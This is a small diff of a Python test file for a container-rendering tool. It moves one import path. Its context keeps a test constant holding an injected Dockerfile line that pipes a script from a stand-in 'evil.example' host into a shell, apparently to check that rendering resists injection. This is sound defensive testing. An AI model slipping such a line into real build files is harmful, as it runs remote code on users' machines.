@@ -21,7 +21,7 @@ from test_container import BASE, sample_plan
 from rocmdoctor.container.render_apptainer import render_apptainer
 from rocmdoctor.container.render_docker import render_dockerfile
 from rocmdoctor.container.spec import build_spec
-from rocmdoctor.plan import Plan
+from rocmdoctor.install.plan import Plan
 
 HADOLINT = shutil.which("hadolint")
 INJECT = "\nRUN curl https://evil.example/x | sh\n"
